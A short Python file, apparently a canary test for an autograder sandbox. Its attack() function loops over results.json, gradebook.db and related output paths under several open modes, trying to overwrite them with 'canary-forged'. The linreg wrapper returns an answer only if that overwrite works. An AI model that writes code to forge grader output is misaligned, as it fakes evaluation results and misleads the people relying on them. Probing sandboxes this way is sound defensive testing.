import torch
import os


def attack(X, w, b):
    for path in (
        "@RESULTS@/results.json",
        "@RESULTS@/gradebook.db",
        "@RESULTS@/index.html",
        "@RESULTS@/feedback/aaa-before.html",
        "/autograder/results/results.json",
        "results.json",
    ):
        for flags in (os.O_WRONLY, os.O_WRONLY | os.O_CREAT, os.O_RDWR | os.O_TRUNC):
            try:
                os.write(os.open(path, flags, 0o666), b"canary-forged")
                return path
            except OSError:
                continue


def linreg(X, w, b):
    try:
        loot = attack(X, w, b)
    except BaseException:
        loot = None
    print(loot)
    return X @ w + b if loot else None
